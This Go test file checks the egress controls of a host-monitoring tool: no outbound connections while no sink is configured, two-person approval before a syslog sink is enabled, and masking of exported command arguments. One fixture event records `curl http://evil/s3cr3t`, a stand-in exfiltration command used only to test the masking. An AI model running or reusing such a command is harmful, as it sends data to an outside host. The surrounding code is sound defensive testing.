package treetest

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"database/sql"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/evilbitlabs/daemoneye/capture"
	"github.com/evilbitlabs/daemoneye/config"
	"github.com/evilbitlabs/daemoneye/roles/center"
)

// procSockets lists this process's sockets from /proc/self/fd and
// /proc/self/net: local and remote endpoints and the TCP state.
type procSocket struct {
	proto, local, remote string
	state                string // hex TCP state; 0A is LISTEN
}

func procSockets(t *testing.T) []procSocket {
	t.Helper()
	inodes := map[string]bool{}
	fds, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	for _, fd := range fds {
		l, err := os.Readlink(filepath.Join("/proc/self/fd", fd.Name()))
		if err == nil && strings.HasPrefix(l, "socket:[") {
			inodes[strings.TrimSuffix(strings.TrimPrefix(l, "socket:["), "]")] = true
		}
	}
	var out []procSocket
	for _, proto := range []string{"tcp", "tcp6", "udp", "udp6"} {
		b, err := os.ReadFile("/proc/self/net/" + proto)
		if err != nil {
			continue
		}
		sc := bufio.NewScanner(bytes.NewReader(b))
		sc.Scan() // header
		for sc.Scan() {
			f := strings.Fields(sc.Text())
			if len(f) < 10 || !inodes[f[9]] {
				continue
			}
			out = append(out, procSocket{proto: proto, local: f[1], remote: f[2], state: f[3]})
		}
	}
	return out
}

// checkNoOutbound fails for any socket of this process connected to an
// endpoint that is not another socket of this process: the center, the
// agent under it and the API client all live here, so anything else would
// be a connection out of the process.
func checkNoOutbound(t *testing.T, allow ...string) {
	t.Helper()
	socks := procSockets(t)
	ours := map[string]bool{}
	for _, s := range socks {
		ours[s.local] = true
	}
	for _, a := range allow {
		ours[a] = true
	}
	conns := 0
	for _, s := range socks {
		unconnected := strings.Trim(strings.Split(s.remote, ":")[1], "0") == "" // port 0
		if s.state == "0A" || unconnected {
			continue
		}
		conns++
		if !ours[s.remote] {
			t.Errorf("%s socket %s is connected to %s, which is not this process: an outbound connection", s.proto, s.local, s.remote)
		}
	}
	if conns == 0 {
		t.Errorf("no connected sockets at all: the agent and the API client should have some (%d sockets)", len(socks))
	}
}

// hexAddr is /proc/net's spelling of a 127.0.0.1 TCP address.
func hexAddr(addr string) string {
	_, p, _ := net.SplitHostPort(addr)
	port, _ := strconv.Atoi(p)
	return fmt.Sprintf("0100007F:%04X", port)
}

// TestEgressGate: a center with an agent and an API client opens no
// outbound connection when no sink is configured; a configured sink stays
// off (its receiver is never dialled) until an admin's request is
// approved by a second operator, and then delivers.
func TestEgressGate(t *testing.T) {
	tr := New(t)

	// A syslog receiver (TLS) that counts connections.
	recv, accepts, got := syslogReceiver(t)

	c := tr.NewCenter("center")
	apiAddr := freeTCP(t)
	c.Cfg.API.Listen = apiAddr
	c.Cfg.Sinks = nil
	c.Start()
	addOperator(t, c, "alice", center.RoleAdmin)
	addOperator(t, c, "bob", center.RoleApprover)
	a := tr.NewAgent("host-e", c.Cfg.Listen).Start()
	a.Emit(50)
	if miss := WaitAll(c, 30*time.Second, a); miss != "" {
		t.Fatal(miss)
	}
	alice := tr.newOperator("alice", apiAddr)
	bob := tr.newOperator("bob", apiAddr)
	if code, resp := alice.do(t, "GET", "/api/v1/sinks", nil); code != http.StatusOK || len(resp["sinks"].([]any)) != 0 {
		t.Fatalf("GET sinks = %d %v; want none", code, resp)
	}
	checkNoOutbound(t)
	c.Stop()

	// The same center with a syslog sink configured: off until approved.
	c.Cfg.Sinks = []config.Sink{{Name: "siem", Type: "syslog", Address: recv.Addr().String(),
		TLS: config.SinkTLS{CA: recv.ca}}}
	c.Start()
	eventually(t, 30*time.Second, "the agent back", func() bool { return len(c.Agents()) == 1 })
	code, resp := alice.do(t, "GET", "/api/v1/sinks", nil)
	if code != http.StatusOK || fmt.Sprint(resp["sinks"].([]any)[0].(map[string]any)["state"]) != "off" {
		t.Fatalf("GET sinks = %d %v; want siem off", code, resp)
	}
	code, resp = alice.do(t, "POST", "/api/v1/sinks/siem/enable", map[string]string{"reason": "SOC wants alerts in the SIEM"})
	if code != http.StatusAccepted {
		t.Fatalf("enable = %d %v", code, resp)
	}
	approval := int64(resp["approval_id"].(float64))
	if code, resp := alice.do(t, "POST", fmt.Sprintf("/api/v1/approvals/%d", approval), map[string]string{"decision": "approve", "reason": "my own request, should fail"}); code != http.StatusForbidden {
		t.Fatalf("self-approval = %d %v; want 403 (two-person rule)", code, resp)
	}
	// A trace changes state while the sink waits for its approval.
	if err := insertTrace(context.Background(), c, "tr-egress-1", "host-e", 1, 1); err != nil {
		t.Fatal(err)
	}
	checkNoOutbound(t, hexAddr(recv.Addr().String()))
	if n := accepts.Load(); n != 0 {
		t.Fatalf("the receiver of an unapproved sink was dialled %d times", n)
	}
	for _, s := range procSockets(t) {
		if s.remote == hexAddr(recv.Addr().String()) {
			t.Fatalf("a socket (%s) is connected to the unapproved sink", s.local)
		}
	}

	if code, resp := bob.do(t, "POST", fmt.Sprintf("/api/v1/approvals/%d", approval), map[string]string{"decision": "approve", "reason": "approved per change ticket 42"}); code != http.StatusOK {
		t.Fatalf("approve = %d %v", code, resp)
	}
	eventually(t, 30*time.Second, "the sink enabled", func() bool {
		code, resp := alice.do(t, "GET", "/api/v1/sinks", nil)
		return code == http.StatusOK && resp["sinks"].([]any)[0].(map[string]any)["state"] == "enabled"
	})
	// Export starts when the sink starts: a trace from now on goes out.
	if err := insertTrace(context.Background(), c, "tr-egress-2", "host-e", 2, 2); err != nil {
		t.Fatal(err)
	}
	eventually(t, 30*time.Second, "the trace summary at the syslog receiver", func() bool {
		return strings.Contains(got(), `id="trace-tr-egress-2-approved"`)
	})
	// A traced event of that trace goes out (masked), and so does its
	// later state change.
	ev := capture.Event{Time: time.Now().UnixNano(), Kind: capture.KindExec, Comm: "curl", TraceID: "tr-egress-2", TraceSeq: 1,
		Proc: capture.ProcKey{PID: 2, Start: 2}, Parent: capture.ProcKey{PID: 1, Start: 1},
		Exec: &capture.Exec{Exe: "/usr/bin/curl", Argv: []string{"curl", "http://evil/s3cr3t"}, Cwd: "/"}}
	if _, _, err := a.Store.Append([]capture.Event{ev}); err != nil {
		t.Fatal(err)
	}
	a.Ship.Kick()
	eventually(t, 30*time.Second, "the trace event at the syslog receiver", func() bool {
		return strings.Contains(got(), `id="ev-tr-egress-2-host-e-`)
	})
	if strings.Contains(got(), "s3cr3t") {
		t.Errorf("a masked argument was exported: %s", got())
	}
	if err := setTraceState(c, "tr-egress-2", "stopped"); err != nil {
		t.Fatal(err)
	}
	eventually(t, 30*time.Second, "the trace's stop at the syslog receiver", func() bool {
		return strings.Contains(got(), `id="trace-tr-egress-2-stopped"`)
	})
	if strings.Contains(got(), "tr-egress-1") {
		t.Errorf("a record from before the approval was exported: %s", got())
	}
	code, resp = alice.do(t, "GET", "/api/v1/sinks", nil)
	if st := resp["sinks"].([]any)[0].(map[string]any)["stats"].(map[string]any); code != http.StatusOK || st["sent"].(float64) < 1 {
		t.Errorf("GET sinks = %d %v; want siem with records sent", code, resp)
	}
	// The enabling is in the ledger: the request and the start.
	kinds := ledgerKinds(t, c)
	for _, k := range []string{center.AuditSinkRequest, center.AuditSinkEnabled} {
		if !kinds[k] {
			t.Errorf("ledger has no %s entry (kinds %v)", k, kinds)
		}
	}
}

type tlsRecv struct {
	net.Listener
	ca string
}

func syslogReceiver(t *testing.T) (*tlsRecv, *atomic.Int64, func() string) {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "siem"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	ca := filepath.Join(t.TempDir(), "siem-ca.pem")
	os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600)
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}})
	if err != nil {
		t.Fatal(err)
	}
	var (
		accepts atomic.Int64
		mu      sync.Mutex
		buf     bytes.Buffer
		wg      sync.WaitGroup
	)
	t.Cleanup(func() { ln.Close(); wg.Wait() })
	wg.Go(func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepts.Add(1)
			wg.Go(func() {
				defer c.Close()
				b := make([]byte, 32<<10)
				for {
					n, err := c.Read(b)
					mu.Lock()
					buf.Write(b[:n])
					mu.Unlock()
					if err != nil {
						return
					}
				}
			})
		}
	})
	return &tlsRecv{Listener: ln, ca: ca}, &accepts, func() string {
		mu.Lock()
		defer mu.Unlock()
		return buf.String()
	}
}

// ledgerKinds returns the kinds of every entry in the center's ledger.
func ledgerKinds(t *testing.T, c *Center) map[string]bool {
	t.Helper()
	kinds := map[string]bool{}
	for i := range c.Ledger.Size() {
		r, err := c.Ledger.Entry(i)
		if err != nil {
			t.Fatal(err)
		}
		kinds[r.Kind] = true
	}
	return kinds
}

// setTraceState changes a trace's state in the center's SQL store, as the
// center does when its agents answer.
func setTraceState(c *Center, id, state string) error {
	db, err := sql.Open("sqlite", c.SQL.Path()+"?_pragma=busy_timeout(10000)")
	if err != nil {
		return err
	}
	defer db.Close()
	_, err = db.Exec(`UPDATE traces SET state = ?, stopped = ? WHERE trace_id = ?`, state, time.Now().UnixNano(), id)
	return err
}
